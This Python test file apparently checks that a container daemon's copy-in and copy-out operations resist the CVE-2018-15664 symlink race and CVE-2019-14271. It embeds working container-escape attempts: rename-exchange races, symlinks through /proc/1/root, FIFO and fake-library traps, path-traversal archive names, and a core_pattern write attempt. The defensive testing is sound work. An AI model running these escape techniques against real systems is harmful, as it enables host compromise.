"""Copies out of and into containers that change their tree at the same time (CVE-2018-15664, CVE-2019-14271).

A file of the host and one of the container have the same path. What is copied is always the container's; the
host's is neither read nor written, nor is its mode or owner changed.
"""

from __future__ import annotations

import io
import os
import tarfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from docker.errors import APIError, NotFound
from docker.models.containers import Container
from tests.support import probes
from tests.support.agent import AgentUnderTest

TIMEOUT = 60.0
ROUNDS = 40
IN, OUT = b"of the container", b"of the host"

PREPARE = f"""\
import ctypes, os, sys, threading
host = sys.argv[1]
libc = ctypes.CDLL(None)
def exchange(one, other):
    libc.renameat2(-100, one.encode(), -100, other.encode(), 2)
for directory in (host, "/a"):
    os.makedirs(directory)
    with open(f"{{directory}}/marker", "wb") as file:
        file.write({IN!r})
"""
FLIP = f"""{PREPARE}
os.symlink(host, "/b")
while True:
    exchange("/a", "/b")
"""
REPLACE = f"""{PREPARE}
while True:
    try:
        os.symlink(f"{{host}}/marker", "/a/link")
        os.rename("/a/link", "/a/x")
    except OSError:
        pass
"""
TRAPS = f"""{PREPARE}
def trap(path):
    os.close(os.open(path, os.O_WRONLY))  # returns when somebody has opened it to read
    os.mknod("/caught", 0o600)
for path in sys.argv[2:]:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if os.path.lexists(path):
        os.unlink(path)
    os.mkfifo(path)
    threading.Thread(target=trap, args=[path]).start()
os.link("/traps/fifo", "/a/fifo")
print("set", flush=True)
while True:
    exchange("/a/marker", "/a/fifo")
"""


class Host:
    """A directory of the host with a file in it, as a container cannot know it."""

    def __init__(self, directory: Path) -> None:
        self.directory = directory
        self.marker = directory / "marker"
        self.marker.write_bytes(OUT)
        self.marker.chmod(0o640)
        self._was = self._now()

    def is_untouched(self) -> bool:
        return self._now() == self._was

    def _now(self) -> tuple[Any, ...]:
        status = self.marker.stat()
        return (
            sorted(os.listdir(self.directory)),
            self.marker.read_bytes(),
            (status.st_mode, status.st_uid, status.st_gid, status.st_mtime_ns, status.st_ctime_ns),
        )


@pytest.fixture
def host(tmp_path: Path) -> Host:
    return Host(tmp_path)


def attacker(agent: AgentUnderTest, script: str, host: Host, *words: str, **options: Any) -> Container:
    """Runs until the test has ended; /a/marker is there when this returns."""
    command = [probes.PYTHON, "-IS", "-c", script, str(host.directory), *words]
    container = agent.client.containers.run(
        probes.IMAGE, command, detach=True, name="attacker", **probes.options(**options)
    )
    eventually(lambda: _read(container, "/a/marker") is not None)
    return container


def eventually(true: Callable[[], bool]) -> None:
    deadline = time.monotonic() + TIMEOUT
    while not true():
        assert time.monotonic() < deadline, "it did not come true"
        time.sleep(0.01)


def _read(container: Container, path: str) -> bytes | None:
    """The content of a file; None when the daemon refuses, or it is none."""
    try:
        pieces, _ = container.get_archive(path)
        data = b"".join(pieces)
    except APIError:
        return None
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        members = [member for member in tar.getmembers() if member.isreg()]
        file = tar.extractfile(members[0]) if members else None
        return file.read() if file is not None else None


def _put(container: Container, path: str, *names: str, **fields: Any) -> bool:
    """False when the daemon refuses."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name in names:
            info = tarfile.TarInfo(name)
            for key, value in fields.items():
                setattr(info, key, value)
            content = b"forged" if info.isreg() else b""
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    try:
        return container.put_archive(path, out.getvalue())
    except APIError:
        return False


def test_a_directory_that_becomes_a_link_leads_nowhere(agent: AgentUnderTest, host: Host) -> None:
    container = attacker(agent, FLIP, host)
    pid = agent.client.api.inspect_container(container.id)["State"]["Pid"]
    eventually(lambda: _naively(f"/proc/{pid}/root/a/marker") == OUT)  # the attack works, on who falls for it
    found = {_read(container, "/a/marker") for _ in range(ROUNDS)}
    found |= {_read(container, "/a/.") for _ in range(ROUNDS)}
    assert IN in found and found <= {IN, None}
    put = [_put(container, "/a", "marker") for _ in range(ROUNDS)]
    put += [_put(container, "/", "a/marker", "a/deep/er") for _ in range(ROUNDS)]
    assert any(put)
    assert host.is_untouched()


def _naively(path: str) -> bytes:
    try:
        return Path(path).read_bytes()
    except OSError:
        return b""


@pytest.mark.parametrize("kind", [tarfile.FIFOTYPE, tarfile.SYMTYPE, tarfile.REGTYPE, tarfile.DIRTYPE])
def test_what_is_made_is_not_followed_when_it_becomes_a_link(
    agent: AgentUnderTest, host: Host, kind: bytes
) -> None:
    """Between its making and the setting of mode, owner and time."""
    container = attacker(agent, REPLACE, host)
    for _ in range(2 * ROUNDS):
        _put(container, "/a", "x", type=kind, linkname="y", mode=0o777, uid=1234, gid=1234)
    assert host.is_untouched()


def test_nothing_of_a_container_is_loaded_or_opened_unasked(agent: AgentUnderTest, host: Host) -> None:
    """Names, time zones, libraries: each file that a C library might look for is a trap. So is a FIFO that
    takes the place of a file while that is copied."""
    traps = ["/etc/passwd", "/etc/group", "/etc/nsswitch.conf", "/etc/localtime", "/etc/host.conf"]
    traps += [f"/traps/{name}" for name in ("fifo", "libnss_files.so.2", "libc.so.6")]
    container = attacker(agent, TRAPS, host, *traps)
    eventually(lambda: b"set" in container.logs())
    maps, children = _mapped(agent), _children(agent)
    for _ in range(ROUNDS):
        assert _read(container, "/a/.") in (IN, None)
        _put(container, "/tmp", "in")
    url = container.client.api._url("/containers/{0}/archive", container.id)
    answer = container.client.api._put(url, params={"path": "/tmp", "copyUIDGID": "true"}, data=b"")
    assert answer.status_code == 200  # nobody is to be looked up: it runs as root
    list(container.export())
    container.diff()
    assert _mapped(agent) <= maps and _children(agent) == children
    with pytest.raises(NotFound):
        container.get_archive("/caught")


def _mapped(agent: AgentUnderTest) -> set[str]:
    """File systems of what is in its memory: a container's is one of its own."""
    lines = Path(f"/proc/{agent.pid}/maps").read_text().splitlines()
    return {line.split()[3] for line in lines if " /" in line}


def _children(agent: AgentUnderTest) -> set[str]:
    found: set[str] = set()
    for task in Path(f"/proc/{agent.pid}/task").iterdir():
        found.update((task / "children").read_text().split())
    return found


LINKS = {
    "absolute": "{host}",
    "climbing": "../../../../../../../../../../..{host}",
    "into the root of a process": "/proc/self/root{host}",
    "into the root of PID 1": "/proc/1/root{host}",
    "into the directory of PID 1": "/proc/1/cwd{host}",
    "into a descriptor": "/proc/self/fd/3/{host}",
    "into a thread": "/proc/thread-self/root{host}",
    "through another": "/links/absolute",
    "to itself": "/links/to itself",
    "to nothing": "",
}


@pytest.mark.parametrize("state", ["running", "stopped"])
@pytest.mark.parametrize("pid_mode", ["", "host"])
def test_links_stay_inside(agent: AgentUnderTest, host: Host, state: str, pid_mode: str) -> None:
    """With the host's processes in sight, too, whose roots a privileged container can enter."""
    options: dict[str, Any] = {"pid_mode": "host", "privileged": True} if pid_mode else {}
    command = ["sh", "-c", "ls /proc/1/root$0; exec sleep 1000", str(host.directory)]
    container = agent.client.containers.run(probes.IMAGE, command, detach=True, name="attacker", **options)
    if pid_mode:
        eventually(lambda: b"marker" in container.logs())  # the attack works from inside
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, target in LINKS.items():
            info = tarfile.TarInfo(f"links/{name}")
            info.type, info.linkname = tarfile.SYMTYPE, target.format(host=host.directory)
            if target:
                tar.addfile(info)
    assert container.put_archive("/", out.getvalue())
    if state == "stopped":
        container.stop(timeout=0)
    for name in LINKS:
        for path in (f"/links/{name}/marker", f"/links/{name}/../marker", f"/links/{name}/."):
            assert _read(container, path) is None, path
        assert not _put(container, f"/links/{name}", "marker"), name
    for path in (f"/links/../..{host.marker}", f"/../..{host.marker}", f"../..{host.marker}"):
        assert _read(container, path) is None
    # The directories in between are made inside, where there are links to nothing.
    _put(container, "/links", *(f"{name}/deep/marker" for name in LINKS))
    assert host.is_untouched()


@pytest.mark.parametrize("name", ["../marker", "x/../../marker", "/../marker"])
def test_names_that_climb_are_refused(agent: AgentUnderTest, host: Host, name: str) -> None:
    container = agent.client.containers.create(
        probes.IMAGE, ["true"], volumes={str(host.directory): {"bind": "/v"}}
    )
    (host.directory / "sub").mkdir()
    untouched = Host(host.directory)
    assert not _put(container, "/v/sub", name)
    assert not _put(container, "/v/sub", "new", type=tarfile.LNKTYPE, linkname="../marker")
    assert untouched.is_untouched()


def test_what_a_container_mounts_over_its_files(agent: AgentUnderTest) -> None:
    """It is what the container sees; but nothing is written into the kernel's."""
    script = (
        "mkdir /d /k; echo below > /d/f; mount -t tmpfs none /d; echo above > /d/f; "
        "mount --bind /proc/sys /k; echo done; exec sleep 1000"
    )
    container = agent.client.containers.run(
        probes.IMAGE, ["sh", "-c", script], detach=True, name="attacker", privileged=True
    )
    eventually(lambda: b"done" in container.logs())
    assert _read(container, "/d/f") == b"above\n"
    assert not _put(container, "/k/kernel", "core_pattern")
    assert not _put(container, "/", "k/kernel/core_pattern")
    assert _read(container, "/k/kernel/core_pattern") is None
    container.stop(timeout=0)
    assert _read(container, "/d/f") == b"below\n"
